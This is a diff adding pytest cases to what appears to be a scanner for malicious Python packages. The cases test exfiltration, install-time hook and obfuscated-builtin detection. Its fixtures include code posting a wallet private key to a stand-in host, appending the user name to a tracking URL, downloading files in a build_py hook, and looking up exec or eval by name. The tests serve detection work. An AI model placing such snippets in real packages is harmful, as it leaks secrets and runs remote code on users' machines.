@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import textwrap
 
+import pytest
+
 from pipvet.core.analysis.engine import analyze
 from pipvet.core.analysis.model import Artifact, Finding, Member
 
@@ -161,6 +163,57 @@ def test_a_wallet_key_sent_away_is_exfiltration() -> None:
             requests.post("https://collect.example.net/k", data={"k": private_key})
     """
     assert "intent.exfiltration" in rules(scan({"demo/client.py": src}), "high")
+
+
+def test_a_key_named_like_a_wallet_key_that_authenticates_a_request_is_not_sent_away() -> None:
+    """An API key kept in ``private_key`` goes in the Authorization header of a log sender's
+    requests: that is how the request authenticates, not what it sends."""
+    src = """
+        import requests
+
+        def send(bulk, url):
+            private_key = bulk.get("privateKey", "")
+            headers = {"Authorization": "Bearer {}".format(private_key)}
+            requests.post(url=url, json=bulk.get("logEntries", []), headers=headers)
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/client.py": src}))
+
+
+def test_a_wallet_key_in_the_body_beside_an_auth_header_is_still_sent_away() -> None:
+    src = """
+        import requests
+
+        def send(bulk, url):
+            private_key = bulk.get("privateKey", "")
+            headers = {"Authorization": "Bearer {}".format(private_key)}
+            requests.post("https://collect.example.net/k", json={"k": private_key}, headers=headers)
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/client.py": src}), "high")
+
+
+DOWNLOAD_TO_USER_CACHE = """
+    import getpass, tempfile, urllib.request
+    from pathlib import Path
+
+    def fetch_plugin():
+        cache = Path(tempfile.gettempdir()) / f"demo_{getpass.getuser()}"
+        url = URL
+        urllib.request.urlretrieve(url, cache / "plugin.whl")
+        return cache
+"""
+
+
+def test_the_local_file_a_download_is_saved_to_is_not_sent() -> None:
+    """A per-user cache folder (the user's name in its path) is where the file lands."""
+    src = DOWNLOAD_TO_USER_CACHE.replace("URL", '"https://pypi.example.org/plugin.whl"')
+    assert "intent.exfiltration" not in rules(scan({"demo/plugin.py": src}))
+
+
+def test_the_user_name_in_the_address_of_a_download_is_still_sent() -> None:
+    src = DOWNLOAD_TO_USER_CACHE.replace(
+        "URL", '"https://t.demo-stats.xyz/p?u=" + getpass.getuser()'
+    )
+    assert "intent.exfiltration" in rules(scan({"demo/plugin.py": src}), "high")
 
 
 def test_machine_architecture_in_a_download_url_is_not_host_identity() -> None:
@@ -1177,6 +1230,39 @@ def test_an_own_command_that_a_build_command_runs_is_install_time() -> None:
     assert scan({"setup.py": chained}).verdict == "malicious"
 
 
+_SDIST_HOOK = """
+    from pathlib import Path
+    from urllib.request import urlretrieve
+    from setuptools import setup
+    from setuptools.command.sdist import sdist
+
+    class BundleAssets(sdist):
+        def run(self):
+            static = Path(__file__).parent / "demo" / "static"
+            for url in ("https://cdn.jsdelivr.net/npm/swagger-ui-dist@5/swagger-ui.js",):
+                urlretrieve(url, static / url.split("/")[-1])
+            sdist.run(self)
+
+    setup(name="demo", cmdclass={"sdist": BundleAssets})
+"""
+
+
+def test_a_command_that_only_builds_the_sdist_is_not_install_time() -> None:
+    """Installing an sdist builds a wheel from it (egg_info, build, bdist_wheel, install): the
+    ``sdist`` command that bundled it ran on the maintainer's machine, never on the user's."""
+    result = scan({"setup.py": _SDIST_HOOK, "demo/__init__.py": ""})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_the_same_download_in_a_build_command_is_install_time() -> None:
+    src = _SDIST_HOOK.replace(
+        'cmdclass={"sdist": BundleAssets}', 'cmdclass={"build_py": BundleAssets}'
+    )
+    assert scan({"setup.py": src, "demo/__init__.py": ""}).verdict in FLAGGED
+    named = _SDIST_HOOK.replace("setup(name=", 'import sys\nsys.argv.append("sdist")\nsetup(name=')
+    assert scan({"setup.py": named, "demo/__init__.py": ""}).verdict in FLAGGED
+
+
 def test_running_a_projects_configure_script_through_sh_is_a_build_step() -> None:
     src = """
         import os
@@ -1233,6 +1319,30 @@ def test_builtins_looked_up_from_a_written_out_name_list_are_not_hidden() -> Non
     result = scan({"demo/__init__.py": src})
     assert "obfuscation.builtins-lookup" not in rules(result), result.findings
     assert result.verdict not in FLAGGED
+
+
+def test_builtins_looked_up_by_the_words_of_a_constant_string_are_not_hidden() -> None:
+    """pyparsing's parse-action helpers: ``for f in "sum len sorted".split(): getattr(...)``."""
+    src = """
+        import builtins
+        single_arg = []
+        for fname in "sum len sorted reversed list tuple set any all min max".split():
+            single_arg.append(getattr(builtins, fname))
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "obfuscation.builtins-lookup" not in rules(result), result.findings
+
+
+@pytest.mark.parametrize(
+    "names", ['"len exec".split()', '("len", "eval")', '"len,__import__".split(",")']
+)
+def test_a_name_list_that_holds_a_builtin_running_code_still_hides_the_call(names) -> None:
+    src = f"""
+        import builtins
+        for fname in {names}:
+            getattr(builtins, fname)
+    """
+    assert "obfuscation.builtins-lookup" in rules(scan({"demo/__init__.py": src}), "high")
 
 
 def test_builtins_looked_up_by_a_name_read_at_run_time_stay_hidden() -> None:
